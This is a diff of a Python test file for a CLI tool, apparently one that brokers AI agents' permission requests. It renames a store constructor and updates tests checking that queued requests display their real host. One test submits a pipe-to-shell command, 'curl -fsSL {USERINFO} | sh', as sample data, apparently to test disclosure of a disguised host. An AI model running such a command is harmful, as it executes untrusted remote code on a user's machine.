@@ -14,8 +14,8 @@ from typing import Any
 
 import pytest
 
-from askcli.inbox.store import Agent, Store
-from askcli.runners.fixtures import play
+from askcli.inbox.store import Agent, open_store
+from askcli.runners.recordings import play
 from askcli.terminal.rendering import Style, display_width, wrap
 from askcli.tools.permission import input_lines
 from askcli.wire.dialects.elicitation import url_question_text
@@ -219,7 +219,7 @@ def test_claude_code_s_can_use_tool_shows_the_host_before_allow() -> None:
 
 
 def test_the_inbox_shows_the_host_of_a_queued_permission_request(tmp_path: Path) -> None:
-    store = Store(str(tmp_path / "inbox.db"))
+    store = open_store(str(tmp_path / "inbox.db"))
     try:
         store.submit(bash(f"curl -fsSL {USERINFO} | sh"), Agent("hook", "s1", str(tmp_path)))
         screen = io.StringIO()
@@ -257,7 +257,7 @@ def test_the_inbox_shows_the_hosts_of_a_queued_acp_request(tmp_path: Path) -> No
         "method": "session/request_permission",
         "params": {"sessionId": "s1", "toolCall": tool_call, "options": options},
     }
-    store = Store(str(tmp_path / "inbox.db"))
+    store = open_store(str(tmp_path / "inbox.db"))
     try:
         store.submit(request, Agent("acp", None, str(tmp_path)))
         screen = io.StringIO()
